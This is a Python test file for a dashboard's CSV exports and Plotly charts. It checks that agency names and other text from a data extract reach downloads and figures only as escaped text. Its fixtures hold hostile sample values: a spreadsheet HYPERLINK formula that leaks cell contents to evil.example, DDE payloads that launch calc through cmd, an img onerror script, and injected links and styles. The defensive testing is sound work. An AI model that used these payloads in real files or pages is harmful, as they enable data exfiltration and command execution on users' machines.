"""Text from the extract is data, never a formula or markup: in every CSV the project writes (the web
downloads, the CLI exports, the audit log) and in every figure (text, labels, tick labels, hover, legend,
annotations).

The agency below is named by someone hostile: each name is a spreadsheet formula, Plotly markup, or both.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from cli import main
from components import charts
from components.links import ScorecardView
from loader.load import load_extract
from queries import performance
from store import db
from queries import exports
from queries.exports import to_csv
from access.scope import EntityRef, Scope
from queries.warehouse import Warehouse
from tests.agency import Agency
from tests.extracts import write_extract
from tests.web import engine_of, make_app, signed_in_client

LINK = '</a><a href="https://evil.example" target="_blank">x</a>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE = {
    "agency": '<img src=x onerror="alert(1)"> Department',
    "B1": FORMULA,
    "B2": '+<a href="https://evil.example">South</a>',
    "O1": LINK,
    "O2": "@SUM(1+1)*cmd|' /C calc'!A0 <i>",
    "peer_group": 'urban <span style="font-size:90px">core</span>',
    "U1": "-2+3 <sup>",
    "U2": "\tunit <br> two",
    "W1": "\rAna <b>&lt; & Co",
    "W2": "Ben &amp; <em>",
    "child": "=2+5",
}
JUNE = dt.date(2024, 6, 1)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_agency() -> Agency:
    a = Agency()
    rows = a.rows
    for bureau in rows["bureaus"]:
        bureau["bureau_name"] = HOSTILE[bureau["bureau_id"]]
    for office in rows["offices"]:
        office["office_name"], office["peer_group"] = HOSTILE[office["office_id"]], HOSTILE["peer_group"]
    for unit in rows["units"]:
        unit["unit_name"] = HOSTILE[unit["unit_id"]]
    for worker in rows["workers"]:
        worker["worker_name"] = HOSTILE[worker["worker_id"]]
    children = [HOSTILE["child"], "C2", "C3", "C4", "C5"]
    for n, (child, tdm) in enumerate(zip(children, ["2024-06-09", "2024-06-01", None, None, None]), start=1):
        a.episode(f"E{n}", child, "2024-06-10", tdm=tdm)
    a.episode("E6", "C6", "2024-06-12", tdm="2024-06-12", worker="W2")
    return a


@pytest.fixture(scope="module")
def instance(tmp_path_factory):
    """A warehouse and an app store holding the hostile agency, with a hostile audit entry."""
    root = tmp_path_factory.mktemp("hostile")
    extract = write_extract(root / "extract", hostile_agency().rows, as_of="2024-12-31", agency=HOSTILE["agency"])
    warehouse = Warehouse(f"duckdb:///{root / 'instance' / 'warehouse.duckdb'}")
    load_extract(extract, warehouse)
    warehouse.dispose()
    engine = db.store_engine(f"sqlite:///{root / 'instance' / 'statboard.db'}")
    db.upgrade(engine)
    db.record(engine, "-cmd|' /C calc'!A0", "=action", {"entity": "office:O1"}, "@10.0.0.1")
    engine.dispose()
    return root / "instance"


@pytest.fixture(scope="module")
def snapshot(instance):
    warehouse = Warehouse(f"duckdb:///{instance / 'warehouse.duckdb'}")
    yield warehouse.snapshot()
    warehouse.dispose()


# -- CSV ---------------------------------------------------------------------------------------

def assert_no_formula(text: str) -> list[list[str]]:
    """Every field of the CSV `text` that starts like a formula is a number; returns the rows."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for field in row:
            if field.startswith(TRIGGERS):
                float(field)  # a negative number is a number, not a formula; anything else fails here
    return rows


def test_text_that_starts_like_a_formula_gets_a_quote_and_numbers_stay_numbers():
    frame = pd.DataFrame({
        "name": ["=1+2", "+1", "-1", "@x", "\tx", "\rx", "plain", "a=b", "'=already", None],
        "number": [-3.5, -2.0, 0.25, -1e-7, 1.0, 2.0, np.nan, 3.0, 4.0, 5.0],
        "count": pd.array([-4, 1, 2, 3, 4, 5, 6, 7, 8, None], dtype="Int64"),
    })
    assert to_csv(frame).split("\r\n")[:-1] == [
        "name,number,count",
        "'=1+2,-3.5,-4", "'+1,-2,1", "'-1,0.25,2", "'@x,-0.0000001,3", "'\tx,1,4", "\"'\rx\",2,5",
        "plain,,6", "a=b,3,7", "'=already,4,8", ",5,"]
    assert exports.neutralise_formula("-") == "'-" and exports.neutralise_formula("") == ""
    assert exports.neutralise_formula("x-1") == "x-1"


def cli(instance, *args) -> str:
    env = {"STATBOARD_INSTANCE_DIR": str(instance), "STATBOARD_WAREHOUSE_URL": None, "STATBOARD_DATABASE_URL": None}
    result = CliRunner().invoke(main, [str(a) for a in args], env=env)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_cli_exports_neutralise_formulas(instance, tmp_path):
    offices = assert_no_formula(cli(instance, "export", "scorecard", "--month", "2024-06", "--level", "office",
                                    "--indicator", "entries"))
    assert [r[4] for r in offices[1:]] == [LINK, "'" + HOSTILE["O2"]]
    bureaus = assert_no_formula(cli(instance, "export", "scorecard", "--month", "2024-06", "--level", "bureau"))
    assert {r[4] for r in bureaus[1:]} == {"'" + FORMULA, "'" + HOSTILE["B2"]}
    out = tmp_path / "members.csv"
    cli(instance, "export", "members", "--indicator", "entries", "--month", "2024-06", "--out", out)
    members = assert_no_formula(out.read_text(encoding="utf-8"))
    assert "'=2+5" in [r[4] for r in members[1:]]  # the child_id column
    audit = assert_no_formula(cli(instance, "export", "audit", "--action", "=action"))
    assert audit[1][1:3] == ["'-cmd|' /C calc'!A0", "'=action"] and audit[1][4] == "'@10.0.0.1"


def test_web_downloads_neutralise_formulas(instance, tmp_path):
    app = make_app(instance, tmp_path / "store.db")
    db.record(engine_of(app), "+evil", "sign-in", {}, "-1")
    executive = signed_in_client(app, "exec", "executive")
    answer = executive.get("/export/scorecard.csv?month=2024-06&level=bureau")
    assert answer.status_code == 200
    assert {r[4] for r in assert_no_formula(answer.get_data(as_text=True))[1:]} == {"'" + FORMULA, "'" + HOSTILE["B2"]}
    answer = executive.get("/export/members.csv?indicator=entries&month=2024-06")
    assert "'=2+5" in [r[4] for r in assert_no_formula(answer.get_data(as_text=True))[1:]]
    admin = signed_in_client(app, "admin", "admin")
    answer = admin.get("/export/audit.csv?actor=%2Bevil")
    assert assert_no_formula(answer.get_data(as_text=True))[1][1] == "'+evil"


# -- figures -----------------------------------------------------------------------------------

# The markup the builders write themselves: bold, line breaks, links to this site's own pages, and the
# hover template's <extra></extra>. Anything else that opens a tag came from the data.
OWN_MARKUP = re.compile(r'</?b>|<br>|<extra></extra>|<a href="/[^"<>]*" target="_self">|</a>')


def strings(value):
    if isinstance(value, dict):
        for v in value.values():
            yield from strings(v)
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from strings(v)
    elif isinstance(value, str):
        yield value


def assert_no_markup_from_data(figure: dict) -> list[str]:
    found = list(strings(figure))
    for text in found:
        assert "<" not in OWN_MARKUP.sub("", text), f"markup from the data in a figure: {text!r}"
    return found


def figures(snapshot) -> dict[str, dict]:
    everything = Scope.everything()
    built = {}
    for indicator in ("entry_timely_tdm", "entries", "reentry"):
        for parent, level in [(None, "office"), (EntityRef("bureau", "B1"), "worker"), (None, None)]:
            data = performance.indicator_across(snapshot, everything, indicator, JUNE, parent, level)
            for name, build in (("ranking", charts.ranking_figure), ("variation", charts.variation_figure),
                                ("peers", charts.peers_figure)):
                built[f"{name} {indicator} {parent} {level}"] = build(data)
        for entity in (EntityRef("office", "O1"), EntityRef("worker", "W2"), EntityRef("unit", "U1"),
                       EntityRef("department", "all")):
            trend = performance.trend(snapshot, everything, indicator, entity, JUNE)
            built[f"trend {indicator} {entity}"] = charts.trend_figure(trend)
    return built


def test_no_figure_carries_markup_from_a_name(snapshot):
    built = figures(snapshot)
    shown = [text for figure in built.values() for text in assert_no_markup_from_data(figure)]
    # The names are there, escaped: Plotly shows &lt; as <, so the reader sees each name as written.
    for name in (LINK, HOSTILE["O2"], HOSTILE["peer_group"], HOSTILE["agency"], HOSTILE["W1"]):
        escaped = name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        assert any(escaped in text for text in shown), name


def test_a_meetings_cell_is_pressed_by_its_ids_and_labelled_with_names_as_written(snapshot):
    from components.scorecard_table import scorecard_table
    data = performance.heatmap(snapshot, Scope.everything(), JUNE, None, "office")
    table = scorecard_table(data, ScorecardView(JUNE, None, "office"), "meeting-flag-cell")
    # assets/scorecard.js reports a pressed cell by its row's LEVEL:ID and column's id, never by a name.
    assert [r["entity"] for r in table["rows"]] == ["department:all", "office:O1", "office:O2"]
    labels = [c["label"] for r in table["rows"] for c in r["cells"]]
    assert any(LINK in label for label in labels)
    assert not any("&lt;" in label for label in labels)


def test_the_scorecard_table_carries_names_as_text_and_links_only_to_this_site(snapshot):
    # assets/scorecard.js sets every string as textContent or an attribute's value: a name is never markup
    # there. What this checks is that names reach it as written (not escaped by hand, which would show &lt;)
    # and never inside a link.
    from components.scorecard_table import scorecard_table
    shown, hrefs = [], []
    for parent, level in [(None, None), (None, "office"), (EntityRef("office", "O1"), "worker")]:
        data = performance.heatmap(snapshot, Scope.everything(), JUNE, parent, level)
        table = scorecard_table(data, ScorecardView(JUNE, parent, level))
        shown += [r["name"] for r in table["rows"]] + [table["corner"], table["caption"]]
        hrefs += [r["href"] for r in table["rows"]] + [c["href"] for c in table["columns"]]
        hrefs += [c["href"] for r in table["rows"] for c in r["cells"]]
    for name in (LINK, HOSTILE["O2"], HOSTILE["agency"], HOSTILE["B2"]):
        assert name in shown, name
    for href in hrefs:
        assert href.startswith("/") and not href.startswith("//") and not re.search(r"[<>\"'\s]", href), href
